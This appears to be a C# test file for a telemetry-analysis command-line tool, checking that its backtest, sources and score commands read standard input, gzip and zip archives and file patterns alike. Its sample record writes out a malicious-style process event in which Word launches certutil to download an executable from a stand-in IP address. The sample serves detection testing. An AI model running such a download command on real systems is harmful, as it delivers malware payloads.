using System.IO.Compression;
using Changeling.TestSupport;

namespace Changeling.Cli.Tests;

/// <summary>Commands that read telemetry read it from standard input and by pattern as they do from a file.</summary>
public sealed class StandardInputTests : IDisposable
{
    private static readonly byte[] Record = Telemetry.Record(
        "winword.exe", "certutil.exe", "certutil -urlcache -f http://192.0.2.7/a a.exe");

    private readonly Scratch _folder = new();

    [Theory]
    [InlineData("backtest")]
    [InlineData("sources", "--json")]
    [InlineData("score")]
    public async Task A_dash_gives_what_the_file_gives_also_gzipped_or_as_an_archive(string command, params string[] options)
    {
        _folder.Write("-.jsonl", Record);
        var file = (await Terminal.RunAsync(_folder, [command, "-.jsonl", .. options])).Succeeded();

        foreach (var input in new[] { Record, Scratch.Gzip(Record), Zip(Record) })
        {
            var outcome = (await Terminal.RunAsync(_folder, input, [command, "-", .. options])).Succeeded();

            Assert.Equal(
                file.Output.Replace(_folder["-.jsonl"], "-", StringComparison.Ordinal),
                outcome.Output.Replace("-/a.jsonl", "-", StringComparison.Ordinal));
        }
    }

    [Fact]
    public async Task A_pattern_and_a_dash_can_be_read_together()
    {
        Directory.CreateDirectory(_folder["logs/2026"]);
        _folder.Write("logs/2026/a.jsonl.gz", Scratch.Gzip(Record));

        var outcome = (await Terminal.RunAsync(_folder, Record, "score", "logs/**/*.gz", "-")).Succeeded();

        Assert.Equal(2, ScoreLine.Of(outcome).Count);
    }

    [Fact]
    public async Task Standard_input_is_named_only_once()
    {
        (await Terminal.RunAsync(_folder, Record, "backtest", "-", "-")).FailedWith("- is named twice", "name it once");
    }

    [Fact]
    public async Task A_pattern_without_a_file_is_named()
    {
        (await Terminal.RunAsync(_folder, "sources", "logs/**/*.gz")).FailedWith("no file matches", "logs/**/*.gz");
    }

    public void Dispose() => _folder.Dispose();

    private static byte[] Zip(byte[] content)
    {
        using var bytes = new MemoryStream();
        using (var archive = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = archive.CreateEntry("a.jsonl").Open();
            entry.Write(content);
        }

        return bytes.ToArray();
    }
}
